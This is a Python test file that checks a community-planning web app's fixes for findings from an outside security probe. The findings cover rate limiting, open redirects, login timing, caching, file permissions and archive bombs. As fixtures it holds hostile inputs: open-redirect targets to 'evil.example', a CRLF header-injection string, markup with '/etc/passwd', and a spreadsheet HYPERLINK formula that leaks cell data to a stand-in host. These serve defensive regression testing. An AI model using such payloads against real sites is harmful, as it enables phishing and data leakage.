"""Findings of the outside probe (issue "Security"): each test failed on the code before its fix."""

import io
from datetime import date

import pytest
from pypdf import PdfReader

from app.extensions import db
from tests.conftest import another_app, csrf_from, post_form, sign_in_staff


@pytest.fixture
def proxied_app(app):
    """The app as deployed behind one nginx (COPLAN_TRUSTED_PROXIES=1), on the test database."""
    behind = another_app(app, TRUSTED_PROXIES=1)
    yield behind
    with behind.app_context():
        db.session.remove()


def _via(client, url: str, client_address: str):
    """A GET as nginx forwards it: the proxy's address, the client's in X-Forwarded-For."""
    return client.get(
        url,
        environ_base={"REMOTE_ADDR": "127.0.0.1"},
        headers={"X-Forwarded-For": client_address},
    )


def test_wrong_codes_from_many_clients_behind_the_proxy_do_not_lock_out_another(
    proxied_app, factory
):
    cid = factory.community(buildings=1, units=1, floors=1)
    code = next(iter(factory.codes(cid).values()))
    attacker = proxied_app.test_client()
    for n in range(12):
        _via(attacker, "/h/WRONGWRONG", f"203.0.113.{n + 1}")
    resident = proxied_app.test_client()
    assert _via(resident, f"/h/{code}", "198.51.100.7").status_code == 302


def test_one_client_is_still_limited_behind_the_proxy(proxied_app):
    client = proxied_app.test_client()
    statuses = [_via(client, "/h/WRONGWRONG", "203.0.113.9").status_code for _ in range(11)]
    assert statuses[:10] == [401] * 10 and statuses[10] == 429


def test_without_a_trusted_proxy_a_forged_address_does_not_escape_the_limit(app):
    client = app.test_client()
    statuses = [
        client.get("/h/WRONGWRONG", headers={"X-Forwarded-For": f"203.0.113.{n}"}).status_code
        for n in range(11)
    ]
    assert statuses[10] == 429


@pytest.mark.parametrize(
    "target",
    ["/%09/evil.example/phish", "//evil.example", "/\\evil.example", "https://evil.example/"],
)
def test_staff_signin_never_redirects_off_site(app, factory, target):
    factory.user("w1", "worker", communities=[factory.community(roster=False)])
    client = app.test_client()
    url = f"/staff/signin?next={target}"
    response = post_form(
        client, url, {"username": "w1", "password": "secret-pass-1"}, form_page="/staff/signin"
    )
    assert response.status_code == 302
    location = response.headers["Location"]
    assert "evil" not in location and location.startswith("/")


def test_a_next_with_a_line_break_is_ignored_not_an_error(app, factory):
    factory.user("w1", "worker", communities=[factory.community(roster=False)])
    client = app.test_client()
    response = post_form(
        client,
        "/staff/signin?next=/c/%0D%0ASet-Cookie:x=1",
        {"username": "w1", "password": "secret-pass-1"},
        form_page="/staff/signin",
    )
    assert response.status_code == 302 and "Set-Cookie" not in response.headers["Location"]


def test_language_switch_stays_on_site(app):
    client = app.test_client()
    token = csrf_from(client, "/")
    response = client.post("/lang/en", data={"csrf_token": token, "next": "/\t/evil.example"})
    assert response.status_code == 302 and response.headers["Location"] == "/"


def test_staff_sign_in_is_limited_per_account_from_any_address(proxied_app, factory):
    factory.user("w1", "worker", communities=[factory.community(roster=False)])
    client = proxied_app.test_client()
    token = csrf_from(client, "/staff/signin")
    statuses = []
    for n in range(11):
        statuses.append(
            client.post(
                "/staff/signin",
                data={"csrf_token": token, "username": "w1", "password": f"guess-{n}"},
                environ_base={"REMOTE_ADDR": "127.0.0.1"},
                headers={"X-Forwarded-For": f"203.0.113.{n + 1}"},
            ).status_code
        )
    assert statuses[:10] == [401] * 10 and statuses[10] == 429


def test_unknown_and_disabled_users_cost_a_password_check(app, factory, monkeypatch):
    """The answer takes as long whether or not the username exists (no user enumeration)."""
    from app.accounts import models

    checks = []
    real = models.check_password_hash
    monkeypatch.setattr(models, "check_password_hash", lambda h, p: checks.append(p) or real(h, p))
    uid = factory.user("w1", "worker", communities=[factory.community(roster=False)])
    client = app.test_client()
    for username in ("nobody", "w1"):
        post_form(client, "/staff/signin", {"username": username, "password": "wrong-pass"})
    with app.app_context():
        user = db.session.get(models.User, uid)
        user.active = False
        db.session.commit()
    post_form(client, "/staff/signin", {"username": "w1", "password": "secret-pass-1"})
    assert checks == ["wrong-pass", "wrong-pass", "secret-pass-1"]


def test_codes_csv_neutralises_formulas_in_owner_names(app, factory):
    from app.communities.codes import write_codes_csv
    from app.communities.models import Household

    cid = factory.community(buildings=1, units=1, floors=1)
    with app.test_request_context():
        households = db.session.query(Household).filter_by(community_id=cid).all()
        households[0].owner_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        households[1].owner_name = "+1-2"
        out = io.StringIO()
        write_codes_csv(out, [(h, "ABCDEFGHJK") for h in households], lambda c: c, ["x"])
    text = out.getvalue()
    assert "'=HYPERLINK" in text and "'+1-2" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


def test_codes_cli_csv_neutralises_formulas(app, factory, tmp_path):
    from app.communities.models import Household

    cid = factory.community("甲小区", buildings=1, units=1, floors=1)
    with app.app_context():
        household = db.session.query(Household).filter_by(community_id=cid).first()
        household.owner_name = "@SUM(1,2)"
        db.session.commit()
    out = tmp_path / "codes.csv"
    result = app.test_cli_runner().invoke(args=["codes", "issue", "甲小区", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "'@SUM(1,2)" in out.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize(
    "payload",
    ["No.5 <b>unclosed", '<a href="http://evil.example">点我</a>', '<img src="/etc/passwd"/>'],
)
def test_statement_pdf_prints_markup_as_text(app, ctx, payload):
    from app.funding.payments import record_payment
    from app.funding.statement import household_statement, statement_pdf
    from app.plans.queries import local_today
    from tests.funding.conftest import build_world

    world = build_world(app, voting=True)
    world.plan.title = payload
    world.item("B1").title = payload
    household = world.household("3号楼2单元602")
    record_payment(
        world.plan,
        household,
        world.item("B1"),
        amount_fen=100,
        paid_on=local_today(),
        method="cash",
        receipt_no=payload[:30],
    )
    data = statement_pdf(household_statement(world.plan, household, date(2026, 4, 12)))
    reader = PdfReader(io.BytesIO(data))
    text = "".join(page.extract_text() for page in reader.pages)
    assert payload.split()[0][:4] in text  # shown as typed
    for page in reader.pages:
        assert "/Annots" not in page  # no live link
    assert b"/etc/passwd" not in data or "/etc/passwd" in text


def test_signing_in_staff_still_works_after_the_fixes(app, factory):
    factory.user("w1", "worker", communities=[factory.community(roster=False)])
    client = app.test_client()
    assert sign_in_staff(client, "w1").status_code == 302


def test_production_refuses_to_start_without_a_secret(monkeypatch):
    from app import create_app

    monkeypatch.delenv("SECRET_KEY", raising=False)
    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        create_app("production")


def test_the_demo_is_never_seeded_in_production(app):
    production = another_app(app, "production")
    result = production.test_cli_runner().invoke(args=["demo", "seed"])
    assert result.exit_code == 1 and "production" in result.output
    from app.communities.models import Community

    with app.app_context():
        assert db.session.query(Community).count() == 0


@pytest.mark.parametrize("path", ["/home", "/receipt", "/district", "/staff/signin", "/h/X"])
def test_private_pages_are_never_cached(app, path):
    response = app.test_client().get(path)
    assert response.headers.get("Cache-Control") == "no-store", path


def test_the_ballot_is_kept_by_no_shared_cache(app):
    """Only the voter's own browser keeps the ballot steps (for Back), never a proxy."""
    response = app.test_client().get("/vote")
    assert response.headers.get("Cache-Control") == "private, no-cache"


def test_production_asks_for_https_only(app):
    production = another_app(app, "production")
    response = production.test_client().get("/", base_url="https://coplan.example")
    assert "max-age=31536000" in response.headers["Strict-Transport-Security"]


def test_receipt_lookups_by_link_are_limited_too(app):
    client = app.test_client()
    statuses = [client.get("/receipt?code=ABCDE-FGHJK").status_code for _ in range(31)]
    assert statuses[-1] == 429 and 429 not in statuses[:30]


def _crafted_archive(audit_chunks, *, chunk_repeat: int = 1) -> io.BytesIO:
    """A small ZIP whose honest manifest lists an audit.jsonl written from `audit_chunks`
    (each written `chunk_repeat` times), streamed so the test itself stays small."""
    import hashlib
    import json
    import zipfile

    digest, size = hashlib.sha256(), 0
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("plan-1/audit.jsonl", "w") as member:
            for chunk in audit_chunks:
                for _ in range(chunk_repeat):
                    member.write(chunk)
                    digest.update(chunk)
                    size += len(chunk)
        manifest = {
            "format": "coplan-archive",
            "version": 1,
            "files": [{"path": "audit.jsonl", "size": size, "sha256": digest.hexdigest()}],
        }
        archive.writestr("plan-1/manifest.json", json.dumps(manifest))
    target.seek(0)
    return target


def _verify_measured(source):
    import time
    import tracemalloc

    from app.reports.archive.verify import verify_archive

    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = verify_archive(source)
        return result, tracemalloc.get_traced_memory()[1], time.perf_counter() - started
    finally:
        tracemalloc.stop()


def test_a_small_zip_listing_millions_of_audit_lines_is_checked_in_bounded_memory(app):
    from app.reports.archive.verify import MAX_FINDINGS

    source = _crafted_archive([b"{}\n" * 1000], chunk_repeat=4000)  # 4 million lines
    assert len(source.getvalue()) < 100_000
    result, peak, _seconds = _verify_measured(source)
    assert not result.ok
    assert len(result.problems) == MAX_FINDINGS + 1
    assert result.problems[-1].kind == "truncated"
    assert "只列出前 200 个" in result.problems[-1].message
    assert peak < 32 * 1024 * 1024


def test_a_single_huge_audit_line_is_never_read_whole(app):
    source = _crafted_archive([b"a" * (1024 * 1024)], chunk_repeat=100)  # one 100 MB line
    result, peak, _seconds = _verify_measured(source)
    assert [p.kind for p in result.problems] == ["audit_line_too_long"]
    assert "第 1 行" in result.problems[0].message
    assert peak < 64 * 1024 * 1024


def test_audit_trails_past_the_line_bound_stop_and_say_so(app, monkeypatch):
    from app.reports.archive import verify

    monkeypatch.setattr(verify, "AUDIT_LINES_LIMIT", 500)
    monkeypatch.setattr(verify, "MAX_FINDINGS", 10_000)
    result, _peak, _seconds = _verify_measured(_crafted_archive([b"{}\n" * 600]))
    assert [p.kind for p in result.problems[-1:]] == ["audit_too_big"]
    assert len(result.problems) == 501 and not result.audit.summary()["complete"]


def test_an_archive_of_too_many_members_is_refused_before_reading_them(app, monkeypatch):
    import zipfile

    from app.reports.archive import verify

    monkeypatch.setattr(verify, "MAX_MEMBERS", 50)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for number in range(51):
            archive.writestr(f"plan-1/f{number}.txt", b"")
    result = verify.verify_archive(target)
    assert [p.kind for p in result.problems] == ["too_many_members"]


def test_the_embedded_database_file_is_private_to_its_owner(app, tmp_path):
    import os
    import stat

    from sqlalchemy import text

    new = tmp_path / "new.sqlite3"
    old = tmp_path / "old.sqlite3"
    old.write_bytes(b"")
    old.chmod(0o644)
    for path in (new, old):
        second = another_app(app, SQLALCHEMY_DATABASE_URI=f"sqlite:///{path}")
        with second.app_context():
            db.session.execute(text("create table t (x int)"))
            db.session.commit()
            db.session.remove()
            db.engine.dispose()
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path


def _two_households(factory):
    cid = factory.community(buildings=1, units=1, floors=1)
    codes = factory.codes(cid)
    return cid, codes[("1号楼", "1单元", "101")], codes[("1号楼", "1单元", "102")]


def test_a_link_never_switches_a_signed_in_household_without_asking(app, factory):
    _cid, mine, attackers = _two_households(factory)
    resident = app.test_client()
    assert resident.get(f"/h/{mine}").status_code == 302
    page = resident.get(f"/h/{attackers}")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "换一户登录" in html and "101" in html and "102" in html
    assert "101" in resident.get("/home").get_data(as_text=True)  # still the resident's own
    # A forged cross-site form has no token of this browser's session.
    assert resident.post(f"/h/{attackers}").status_code == 400
    assert "101" in resident.get("/home").get_data(as_text=True)
    # The resident's own choice on the page switches.
    switched = post_form(resident, f"/h/{attackers}")
    assert switched.status_code == 302
    assert "102" in resident.get("/home").get_data(as_text=True)


def test_a_link_never_signs_out_staff_without_asking(app, factory):
    cid, _mine, code = _two_households(factory)
    factory.user("w1", "worker", communities=[cid])
    worker = app.test_client()
    sign_in_staff(worker, "w1")
    assert "换一户登录" in worker.get(f"/h/{code}").get_data(as_text=True)
    assert worker.get(f"/c/{cid}/").status_code == 200


def test_the_own_households_link_and_a_fresh_phone_sign_in_at_once(app, factory):
    _cid, mine, _other = _two_households(factory)
    resident = app.test_client()
    assert resident.get(f"/h/{mine}").status_code == 302
    assert resident.get(f"/h/{mine}").headers["Location"].endswith("/home")


def test_household_sign_in_works_with_rate_limiting_turned_off(app, factory):
    _cid, mine, _other = _two_households(factory)
    unlimited = another_app(app, RATELIMIT_ENABLED=False)
    assert unlimited.test_client().get(f"/h/{mine}").status_code == 302
